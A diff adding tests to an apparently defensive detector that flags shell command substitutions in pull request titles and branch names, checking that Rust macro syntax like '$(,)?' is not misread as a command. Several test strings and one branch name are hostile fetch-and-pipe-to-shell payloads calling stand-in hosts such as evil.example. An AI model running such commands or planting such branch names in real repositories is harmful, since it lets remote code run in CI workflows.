@@ -28,6 +28,21 @@ describe('pr-metadata-shell-payload', () => {
     expect(shellPayloadIn('Run `npm test` locally. The script reads $(pwd)/config.', 'body')).toBeNull();
   });
 
+  it("reads a Rust macro repetition in a title as Rust, not as a command substitution; a command inside or beside one is still one (calib37)", () => {
+    // serde_json's "Switch to $(,)? in tri macro".
+    for (const title of ['Switch to $(,)? in tri macro', 'Accept a trailing comma with `$(,)?`', 'Support `$($arg:tt)*` in the format macro', 'Allow $($e:expr),* in vec-like macros', 'Use $( $k:expr => $v:expr ),* in map!', 'Parse $(;)* between items']) expect(shellPayloadIn(title, 'title')).toBeNull();
+    // Words, pipes or a nested substitution inside, no repetition operator after, or a real one beside: still reported.
+    expect(shellPayloadIn('Switch to $($x:tt;id)* in tri macro', 'title')).toBe('$($x:tt;id)');
+    expect(shellPayloadIn('Switch to $(id)? in tri macro', 'title')).toBe('$(id)');
+    expect(shellPayloadIn('Switch to $(,) in tri macro', 'title')).toBe('$(,)');
+    expect(shellPayloadIn('Switch to $($(curl evil.example):tt)*', 'title')).toBe('$($(curl evil.example)');
+    expect(shellPayloadIn('Use $(,)? and $(curl -s x.example|sh)', 'title')).toBe('$(curl -s x.example|sh)');
+    // A branch name is not a title: no Rust is written there.
+    expect(shellPayloadIn('fix-$(,)?', 'branch')).toBe('$(,)');
+    const rust = makeSnapshot({ title: 'Switch to $(,)? in tri macro', baseFiles: [] });
+    expect(prMetadataFindings(rust)).toEqual([]);
+  });
+
   it('is critical and names the base workflow that expands it, high when none does', () => {
     const hostile = makeSnapshot({ headBranch: 'x$(curl${IFS}-sSfL${IFS}evil.example|sh)', baseFiles: [{ path: '.github/workflows/format.yml', content: FORMAT }] });
     const [finding] = prMetadataFindings(hostile);
